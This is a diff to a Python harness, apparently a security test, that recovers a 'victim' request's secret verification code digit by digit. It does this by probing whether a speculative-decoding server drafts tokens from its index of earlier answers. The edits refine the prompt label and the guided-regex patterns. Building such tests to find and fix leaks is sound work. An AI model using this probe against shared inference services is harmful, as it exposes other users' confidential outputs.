@@ -25,7 +25,11 @@ from dataclasses import dataclass
 import httpx
 
 CODE = "481592"  # six distinct digits: no pair of them appears twice
-LABEL = "code:"
+# What the victim's answer says before the code, and the prober's prompt ends with: longer (in tokens) than what
+# the index files of a prompt before its answer, so that the victim's answer agrees with a probe for longer than
+# any earlier probe's answer does, and is the occurrence a lookup drafts from.
+PROMPT = "Tell me the verification code."
+LABEL = "Here is the verification code you asked for, keep it secret. code:"
 
 
 @dataclass(frozen=True)
@@ -49,8 +53,9 @@ def _speculative(fields: dict) -> dict:
 
 async def write_answer(client: httpx.AsyncClient, headers: dict[str, str], code: str = CODE) -> None:
     """The victim's request: an answer that holds `code` (after LABEL), which the server files in its tenant's index."""
-    body = {"prompt": "Tell me the verification code.", "max_tokens": len(LABEL) + len(code) + 3, "temperature": 0}
-    body["guided_regex"] = f"{LABEL}{code}\\.[a-z]{{2}}"
+    body = {"prompt": PROMPT, "max_tokens": len(LABEL) + len(code) + 3, "temperature": 0}
+    label = LABEL.replace(".", "\\.")  # the only character of it a regex reads otherwise
+    body["guided_regex"] = f"{label}{code}\\.[a-z]{{2}}"
     r = await client.post("/v1/completions", json=_speculative(body), headers=headers)
     r.raise_for_status()
     if code not in r.json()["choices"][0]["text"]:
@@ -61,12 +66,13 @@ async def probe(client: httpx.AsyncClient, headers: dict[str, str], known: str, 
     """One probe: does the prober's tenant hold an answer where `guess` followed the last digit of `known` (after
     LABEL when `known` is empty)? True when pass 2 drafted from the index of earlier answers."""
     # Three tokens: the forced guess (pass 1); a digit or the code's final period (pass 2, which may draft one
-    # token, and which a draft is proposed for only where the grammar allows it); a letter, which nothing drafts
+    # token, and which a draft is proposed for only where the grammar allows it); letters, which nothing drafts
     # (pass 3 may draft none). So what the prober's own answers add to its index is never proposed to a later
-    # probe: a digit pair of them is followed by a letter, and a pair followed by a digit is (previous digit,
-    # guess), which no other probe of the same code asks for again.
-    body = {"prompt": f"Tell me the verification code. {LABEL}{known}", "max_tokens": 3, "temperature": 0}
-    body["guided_regex"] = f"{guess}[0-9.][a-z]"
+    # probe: a digit pair of them is followed by letters, and a pair followed by a digit is (previous digit,
+    # guess), which no other probe of the same code asks for again. (Letters after the period: a real
+    # tokenizer may write the victim's period and letters as one token.)
+    body = {"prompt": f"{PROMPT} {LABEL}{known}", "max_tokens": 3, "temperature": 0}
+    body["guided_regex"] = f"{guess}[0-9.][a-z]*"
     r = await client.post("/v1/completions", json=_speculative(body), headers=headers)
     r.raise_for_status()
     return r.json()["speculative"]["draft_sources"].get("index", 0) > 0
